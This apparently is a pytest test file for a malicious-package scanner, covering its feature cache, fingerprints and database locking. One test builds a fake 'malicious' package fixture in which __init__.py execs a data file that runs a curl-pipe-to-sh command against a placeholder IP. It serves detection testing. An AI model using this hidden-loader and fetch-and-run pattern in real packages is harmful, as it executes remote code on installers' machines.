"""The corpus feature cache's key: what invalidates it and what does not."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from vetpy.lab.dataset.extraction import code_digest, extractor_fingerprint


def _tree(root: Path, source: str) -> str:
    (root / "pkg").mkdir(parents=True, exist_ok=True)
    (root / "pkg" / "mod.py").write_text(source)
    return code_digest(root)


def test_reformatting_and_comments_keep_the_cache(tmp_path: Path) -> None:
    plain = _tree(tmp_path / "a", "def f(x):\n    return x + 1\n")
    reformatted = _tree(tmp_path / "b", "# a comment\ndef f( x ):\n\n    return (x + 1)  # same\n")
    assert plain == reformatted


def test_behaviour_changes_invalidate_it(tmp_path: Path) -> None:
    plain = _tree(tmp_path / "a", "def f(x):\n    return x + 1\n")
    assert _tree(tmp_path / "b", "def f(x):\n    return x + 2\n") != plain
    renamed = tmp_path / "c"
    (renamed / "other").mkdir(parents=True)
    (renamed / "other" / "mod.py").write_text("def f(x):\n    return x + 1\n")
    assert code_digest(renamed) != plain


def test_fingerprint_is_stable() -> None:
    assert extractor_fingerprint() == extractor_fingerprint()
    assert len(extractor_fingerprint()) == 16


def _raw_members_record(sample: Any) -> Any:  # reads the raw members, not what a scan reads
    from vetpy.acquire.archive import open_archive
    from vetpy.features.extract import extract_features

    archive = open_archive(sample.path.read_bytes(), target=str(sample.path), filename=sample.path.name)
    return extract_features(archive)


def test_how_a_record_is_made_is_part_of_the_fingerprint(monkeypatch: Any) -> None:
    from vetpy.lab.dataset import extraction

    before = extractor_fingerprint()
    monkeypatch.setattr(extraction, "extract_one", _raw_members_record)
    assert extractor_fingerprint() != before


def test_a_reader_goes_on_while_another_run_holds_a_write(tmp_path: Path, monkeypatch: Any) -> None:
    from vetpy.lab.dataset import extraction
    from vetpy.lab.dataset.extraction import FeatureCache, error_record

    monkeypatch.setattr(extraction, "LOCK_WAIT", 0.5)  # fail fast if a reader has to wait
    writer = FeatureCache(tmp_path / "f.sqlite", fingerprint="fp")
    reader = FeatureCache(tmp_path / "f.sqlite", fingerprint="fp")
    writer.put_many([error_record("a" * 64, ValueError("one"))])
    writer._db.execute("BEGIN EXCLUSIVE")  # another run in the middle of a write
    writer._db.execute("INSERT INTO features VALUES ('b', 'fp', '{}')")
    assert set(reader.get_many(["a" * 64, "b"])) == {"a" * 64}  # no "database is locked"
    writer._db.commit()
    writer.close()
    reader.close()


def test_training_records_read_what_a_scan_reads(tmp_path: Path) -> None:
    """A data file the package runs as code is read as code in a training record, as in a scan (the code
    views of Archive.analysed()): training and scanning see the same package."""
    from conftest import build_archive
    from vetpy.lab.dataset.corpus import Sample
    from vetpy.lab.dataset.extraction import extract_one

    files = {
        "demo-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        "demo-1.0/demo/__init__.py": (
            b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'd.bin')).read())\n"
        ),
        "demo-1.0/demo/d.bin": b"import os\nos.system('curl -s http://203.0.113.7/i.sh | sh')\n",
    }
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(build_archive(files))
    record = extract_one(Sample(1, path, "0" * 64, "demo", "1.0", "2026-01-01", "malicious"))
    assert record.error is None
    assert "call:os.system" in record.code_text.split()
